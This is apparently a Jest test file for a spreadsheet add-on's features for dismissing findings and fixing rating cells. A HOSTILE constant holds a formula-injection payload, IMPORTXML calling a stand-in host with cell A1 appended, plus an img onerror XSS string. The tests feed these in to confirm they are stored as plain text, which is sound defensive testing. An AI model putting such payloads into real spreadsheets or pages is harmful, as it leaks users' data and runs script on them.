import { describe, expect, test } from '@jest/globals';
import { type Host, openHost } from '../../local/host.ts';
import type { WorkbookCheck } from '../../src/core/checks/check-workbook.ts';
import { keyOf } from '../../src/core/checks/dismissals.ts';
import { dismissalsIn, fixesIn } from '../../src/core/checks/kept.ts';
import type { SentWorkbook } from '../../src/core/contract.ts';
import type { CellChange, FixReport, Kept } from '../../src/core/contract-findings.ts';
import type { Finding } from '../../src/core/finding.ts';
import { ask, checked } from './set-up-steps.ts';
import { openCompany, sheetId, shown, TABLES, tabNames, type } from './small-company.ts';

const HOSTILE = '=IMPORTXML("http://x/"&A1) <img src=x onerror=alert(1)> مرحبا';
const [RATINGS_HEADER = [], ...RATINGS] = TABLES['Ratings'] ?? [];

const findings = ({ tabs }: WorkbookCheck, rule: string): readonly Finding[] =>
  tabs.flatMap(({ groups }) => groups.flatMap((group) => (group.rule.id === rule ? group.findings : [])));
const cells = (found: readonly Finding[]) => found.map(({ at }) => `${at.tab}!${at.cell}`);

async function dismiss(host: Host, rule: string, reason = 'We mean it.'): Promise<void> {
  const check = await checked(host);
  const changes = findings(check, rule).map((finding) => ({ key: keyOf(check.identify, finding), reason }));
  ask(host, 'sidebarDismiss', { changes });
}

/** Inserts a row above row 2 of a tab, as a person does. */
function insertRow(host: Host, tab: string): void {
  const row = { dimension: 'ROW' as const, base: 1, quantity: 1, position: 'before' as const };
  host.model.dispatch('ADD_COLUMNS_ROWS', { sheetId: sheetId(host, tab), sheetName: tab, ...row });
}

describe('a finding that was dismissed', () => {
  const vague = () =>
    openCompany({
      Matrix: [
        ...(TABLES['Matrix'] ?? []).slice(0, 3),
        ['Sales', 'Listening', 'Demonstrates leadership.', 'Asks back.'],
      ],
    });

  test('is set aside with its reason and the day, and no longer counted', async () => {
    const host = vague();
    const before = await checked(host);
    await dismiss(host, 'description-vague', HOSTILE);
    const after = await checked(host);
    expect(cells(findings(before, 'description-vague'))).toContain('Matrix!C4');
    expect(findings(after, 'description-vague')).toEqual([]);
    expect(after.counts.warn).toBe(before.counts.warn - after.dismissed.length);
    const today = Math.floor(Date.now() / 86_400_000);
    expect(after.dismissed.map(({ dismissal }) => dismissal.reason)).toContain(HOSTILE);
    expect(after.dismissed.every(({ dismissal }) => Math.abs(dismissal.day - today) <= 1)).toBe(true);
  });

  test('stays dismissed when rows are inserted above it', async () => {
    const host = vague();
    await dismiss(host, 'description-vague');
    insertRow(host, 'Matrix');
    const { dismissed } = await checked(host);
    expect(cells(dismissed.map(({ finding }) => finding))).toContain('Matrix!C5');
    expect(findings(await checked(host), 'description-vague')).toEqual([]);
  });

  test('comes back when its text changes, with what was said before', async () => {
    const host = vague();
    await dismiss(host, 'description-vague', 'Known');
    type(host, 'Matrix', 'C4', 'Demonstrates strong leadership.');
    const check = await checked(host);
    const [back] = findings(check, 'description-vague');
    expect(back?.at).toEqual({ tab: 'Matrix', cell: 'C4' });
    expect(back && check.before.get(back)?.reason).toBe('Known');
  });

  test('comes back when it is restored', async () => {
    const host = vague();
    await dismiss(host, 'description-vague');
    const { dismissed } = await checked(host);
    const changes = dismissed.map(({ dismissal }) => ({ key: dismissal.key, reason: '' }));
    expect(dismissalsIn(ask<Kept>(host, 'sidebarDismiss', { changes }))).toEqual([]);
    expect(cells(findings(await checked(host), 'description-vague'))).toContain('Matrix!C4');
  });

  test('is kept in the hidden tab as text, whatever the reason looks like', async () => {
    const host = vague();
    await dismiss(host, 'description-vague', '=1+1');
    const [, row = []] = shown(host, 'Career data');
    expect(row[0]).toBe('Dismissed');
    expect(row[2]).toMatch(/^\{"reason":"=1\+1","day":\d+\}$/);
    expect(tabNames(host)).toContain('Career data');
  });

  test.each([
    ['of blanks only', { changes: [{ key: 'a', reason: '  ' }] }],
    ['that is too long', { changes: [{ key: 'a', reason: 'x'.repeat(501) }] }],
    ['that is missing', { changes: [{ key: 'a' }] }],
    ['of nothing', null],
  ])('takes no reason %s', (_what, request) => {
    const outcome = openCompany().rpc('sidebarDismiss', [request]);
    expect(outcome).toMatchObject({ value: { ok: false, message: 'Write a reason of at most 500 characters.' } });
  });

  test('waits for somebody else who writes', () => {
    const host = openCompany();
    host.occupyLock(true);
    const outcome = host.rpc('sidebarDismiss', [{ changes: [{ key: 'a', reason: 'b' }] }]);
    expect(outcome).toMatchObject({
      value: { ok: false, message: expect.stringMatching(/^Somebody else is writing/) },
    });
    expect(tabNames(host)).not.toContain('Career data');
  });

  test('is not written over the tab of somebody else', () => {
    const host = openCompany({ 'Career data': [['Our salaries']] });
    const outcome = host.rpc('sidebarDismiss', [{ changes: [{ key: 'a', reason: 'b' }] }]);
    expect(outcome).toMatchObject({
      value: { ok: false, message: expect.stringMatching(/^There is a tab “Career data”/) },
    });
  });

  test('does no harm where people edited what is kept', async () => {
    const host = openCompany();
    ask(host, 'sidebarDismiss', { changes: [{ key: 'description-vague ["a"] #b', reason: 'c' }] });
    type(host, 'Career data', 'C2', 'not JSON');
    expect(dismissalsIn(ask<SentWorkbook>(host, 'sidebarWorkbook'))).toEqual([]);
    expect((await checked(host)).dismissed).toEqual([]);
  });
});

describe('fixing cells', () => {
  /** Row 2 as text, row 3 full width and with a no-break space, row 4 with a decimal comma. */
  const messy = (options: Parameters<typeof openCompany>[1] = {}) =>
    openCompany(
      {
        Ratings: [
          RATINGS_HEADER,
          ['2026 Q3', 'E1', '', '4', '2 ', 5],
          ['2026 Q3', 'E2', '', '４', '\u00a04', 4],
          ['2026 Q3', '00123', '', '3,5', 3, 'good'],
          ...RATINGS.slice(3),
        ],
      },
      options,
    );
  const fixable = async (host: Host, rule = 'rating-readable'): Promise<readonly CellChange[]> =>
    findings(await checked(host), rule).flatMap(({ at, fix }) =>
      fix ? [{ ...at, from: fix.from, to: fix.to, format: '' }] : [],
    );
  const fix = async (host: Host, rule?: string) =>
    ask<FixReport>(host, 'sidebarFix', { cells: await fixable(host, rule), undoes: '' });
  const undo = (host: Host, kept: Kept) => {
    const [last] = fixesIn(kept);
    return ask<FixReport>(host, 'sidebarFix', { cells: last?.back, undoes: last?.id });
  };
  const values = (host: Host) => {
    const { getters } = host.model;
    const id = sheetId(host, 'Ratings');
    return [1, 2, 3].map((row) => [3, 4, 5].map((col) => getters.getEvaluatedCell({ sheetId: id, col, row }).value));
  };

  test('makes numbers of all that can only be numbers, and leaves the rest', async () => {
    const host = messy();
    expect(await fix(host)).toMatchObject({ done: 5, skipped: [] });
    expect(values(host)).toEqual([
      [4, 2, 5],
      [4, 4, 4],
      [3.5, 3, 'good'],
    ]);
    expect(cells(findings(await checked(host), 'rating-readable'))).toEqual(['Ratings!F4']);
  });

  test('is put back by its undo, text for text', async () => {
    const host = messy();
    const before = values(host);
    const report = await fix(host);
    expect(undo(host, report)).toMatchObject({ done: 5, skipped: [], fixed: [] });
    expect(values(host)).toEqual(before);
  });

  test('gives a cell of plain text the format of a number, and the undo gives it back', async () => {
    const host = messy();
    const id = sheetId(host, 'Ratings');
    const zone = { top: 1, bottom: 1, left: 3, right: 3 };
    host.model.dispatch('SET_FORMATTING', { sheetId: id, target: [zone], format: '@' });
    type(host, 'Ratings', 'D2', '4');
    const format = () => host.model.getters.getCell({ sheetId: id, row: 1, col: 3 })?.format;
    const report = await fix(host);
    expect([values(host)[0]?.[0], format() || 'none']).toEqual([4, 'none']);
    undo(host, report);
    // The engine shows the apostrophe of a literal in a cell of plain text.
    expect([String(values(host)[0]?.[0]).replace(/^'/, ''), format()]).toEqual(['4', '@']);
  });

  test('leaves a cell that changed since the check, or holds a formula, and says which', async () => {
    const host = messy();
    const planned = await fixable(host);
    type(host, 'Ratings', 'D2', '1');
    type(host, 'Ratings', 'E3', '="4"');
    const report = ask<FixReport>(host, 'sidebarFix', { cells: planned, undoes: '' });
    expect(report.done).toBe(3);
    expect(report.skipped).toEqual([
      { tab: 'Ratings', cell: 'D2', why: 'changed' },
      { tab: 'Ratings', cell: 'E3', why: 'formula' },
    ]);
    expect(values(host)[0]?.[0]).toBe(1);
  });

  test('does not put back what somebody typed after it', async () => {
    const host = messy();
    const report = await fix(host);
    type(host, 'Ratings', 'D2', '5');
    expect(undo(host, report)).toMatchObject({ done: 4, skipped: [{ cell: 'D2', why: 'changed' }] });
    expect(values(host)[0]?.[0]).toBe(5);
  });

  test('leaves protected cells to those who may edit them, and says which', async () => {
    const workbook = messy().export();
    const protection = { sheetId: sheetId(messy(), 'Ratings'), description: '', warningOnly: false };
    const host = openHost({
      dist: 'dist',
      workbook: { ...workbook, beside: { ...workbook.beside, protections: [{ ...protection, zone: 'D2:D3' }] } },
      ownsFile: false,
    });
    const report = await fix(host);
    expect(report.done).toBe(3);
    expect(report.skipped.map(({ cell, why }) => `${cell} ${why}`)).toEqual(['D2 protected', 'D3 protected']);
    expect(values(host).map(([first]) => first)).toEqual(['4', '４', 3.5]);
  });

  test('of a tab that is gone, or a row that is, changes nothing', async () => {
    const host = messy();
    const change = { from: 'a', to: 'b', format: '' };
    const gone = [
      { tab: 'Nowhere', cell: 'A1', ...change },
      { tab: 'Ratings', cell: 'A9999999', ...change },
    ];
    expect(ask<FixReport>(host, 'sidebarFix', { cells: gone, undoes: '' })).toMatchObject({
      done: 0,
      fixed: [],
      skipped: [{ why: 'gone' }, { why: 'gone' }],
    });
    expect(tabNames(host)).not.toContain('Career data');
  });

  test('removes spaces from names as text: nothing becomes a formula, a number or a date', async () => {
    const people = (TABLES['People'] ?? []).map((row) => [...row]);
    const names = ['=1+1  ', ' 00123', '3/4  ', 'Ana  Silva'];
    names.forEach((name, at) => {
      const row = people[at + 1];
      if (row) row[at === 1 ? 0 : 1] = name;
    });
    const host = openCompany({ People: people });
    expect((await fix(host, 'spaces-stray')).done).toBe(4);
    const id = sheetId(host, 'People');
    const held = [1, 2, 3, 4].map((row) =>
      host.model.getters.getEvaluatedCell({ sheetId: id, row, col: row === 2 ? 0 : 1 }),
    );
    expect(held.map(({ type: kind, value }) => `${kind} ${value}`)).toEqual([
      'text =1+1',
      'text 00123',
      'text 3/4',
      'text Ana Silva',
    ]);
  });

  test('remembers the last three fixes', async () => {
    const host = messy();
    const planned = await fixable(host);
    const reports = planned.map((cell) => ask<FixReport>(host, 'sidebarFix', { cells: [cell], undoes: '' }));
    expect(reports.map(({ fixed }) => fixed.length)).toEqual([1, 2, 3, 3, 3]);
    expect(fixesIn(reports[4] ?? { fixed: [] })[0]?.back).toMatchObject([{ cell: planned[4]?.cell }]);
  });

  test('writes cells below one another in one call, however many they are', async () => {
    const many = Array.from({ length: 500 }, (_item, at) => ['2026 Q3', `P${at}`, '', '4', '3', 5]);
    const host = openCompany({ Ratings: [RATINGS_HEADER, ...many] });
    expect(await fix(host)).toMatchObject({ done: 1000 });
    // Two columns, and the tab in which the undo is kept.
    expect(host.calls.get('Range.setValues')).toBe(3);
    expect(host.calls.get('total')).toBeLessThan(60);
  });

  test.each([
    ['nothing', { cells: [], undoes: '' }],
    ['no cell', { cells: [{ tab: 'Ratings', cell: 'D', from: '4', to: 4, format: '' }], undoes: '' }],
    ['a number that is none', { cells: [{ tab: 'Ratings', cell: 'D2', from: '4', to: null, format: '' }], undoes: '' }],
    ['a word', 'D2'],
  ])('refuses %s in a sentence', (_what, request) => {
    const outcome = openCompany().rpc('sidebarFix', [request]);
    expect(outcome).toMatchObject({ value: { ok: false, message: 'Those cells cannot be fixed. Check again.' } });
  });

  test('after a fault at any call has either done nothing, or can be put back', async () => {
    let failing = 0;
    const fault = (_call: string, n: number) => {
      if (n === failing) throw new Error('Service Spreadsheets timed out.');
    };
    let finished = false;
    const planned = await fixable(messy());
    for (let n = 1; n < 80 && !finished; n += 1) {
      const host = messy({ fault });
      const before = values(host);
      failing = n;
      const outcome = host.rpc('sidebarFix', [{ cells: planned, undoes: '' }]);
      failing = 0;
      finished = outcome.ok && (outcome.value as { readonly ok: boolean }).ok;
      const [last] = fixesIn(ask<SentWorkbook>(host, 'sidebarWorkbook'));
      if (last) ask(host, 'sidebarFix', { cells: last.back, undoes: last.id });
      expect(values(host)).toEqual(before);
    }
    expect(finished).toBe(true);
  });
});
